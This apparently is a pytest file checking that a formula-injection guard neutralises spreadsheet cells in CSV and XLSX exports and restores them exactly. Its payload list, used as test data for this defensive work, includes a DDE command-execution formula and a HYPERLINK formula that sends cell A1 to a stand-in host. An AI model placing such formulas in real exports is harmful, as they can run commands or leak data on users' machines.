"""Formula injection: no cell of an export starts what a spreadsheet runs, and nothing is lost coming back."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from python_calamine import load_workbook

from panhuo.adapters.formula_guard import is_dangerous, neutralise, restore
from panhuo.adapters.writers.tables import Column, write_rows

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://host.example/?"&A1,"点这里")',
    "+1+1",
    "+8613800000000",
    "-1+1",
    "-一种电池",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫A1",
    "−1",
    " =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "'=1+1",
    "''=1+1",
    "<r><t>=1</t></r>",
]
HARMLESS = ["一种电池", "it's", "'quoted'", "2=2", "a@b", "", "'", "—", "·", "(=1)", "_x0041_", "　全角空格"]
STARTS = "=+-@\t\r\n＝＋－＠"


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_payload_is_marked_and_comes_back_exactly(text: str) -> None:
    marked = neutralise(text)
    assert marked[0] == "'"
    assert not is_dangerous(marked)
    assert restore(marked) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_is_left_alone_both_ways(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


@given(st.text(alphabet=st.one_of(st.sampled_from("='+-@\t\r\n ＝＋－＠\u3000\ufeff<r>"), st.characters())))
def test_whatever_the_text_it_comes_back_exactly(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert neutralise(text)[:1] not in STARTS or text == ""


def _round_trip_rows() -> tuple[list[Column], list[list[str]]]:
    columns = [Column("number", "编号"), Column("title", "名称", "long")]
    return columns, [[str(number), text] for number, text in enumerate(PAYLOADS + HARMLESS)]


def test_no_csv_cell_starts_a_formula_and_all_come_back(tmp_path: Path) -> None:
    columns, rows = _round_trip_rows()
    path = tmp_path / "out.csv"
    write_rows(path, columns, rows, sheet_title="表")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = list(csv.reader(handle))
    assert cells[0] == ["number", "title"]
    assert all(not is_dangerous(cell) for row in cells for cell in row)
    assert [[row[0], restore(row[1])] for row in cells[1:]] == rows


def test_no_xlsx_cell_starts_a_formula_and_all_come_back(tmp_path: Path) -> None:
    columns, rows = _round_trip_rows()
    path = tmp_path / "out.xlsx"
    write_rows(path, columns, rows, sheet_title="表")
    sheet = openpyxl.load_workbook(path)["表"]
    assert all(cell.data_type in ("s", "n", "inlineStr") for row in sheet for cell in row)
    texts = ["" if row[1].value is None else str(row[1].value) for row in list(sheet)[1:]]
    assert all(not is_dangerous(text) for text in texts)
    assert [restore(unescape(text)) for text in texts] == [row[1] for row in rows]


def test_the_fast_reader_gives_back_what_the_guard_wrote(tmp_path: Path) -> None:
    columns, rows = _round_trip_rows()
    path = tmp_path / "out.xlsx"
    write_rows(path, columns, rows, sheet_title="表")
    cells = load_workbook(str(path)).get_sheet_by_name("表").to_python()[1:]
    assert [restore(str(row[1])) for row in cells] == [row[1] for row in rows]


def test_without_the_guard_the_same_cells_would_run() -> None:
    assert sum(text[:1] in STARTS for text in PAYLOADS) >= 15  # what the guard is for
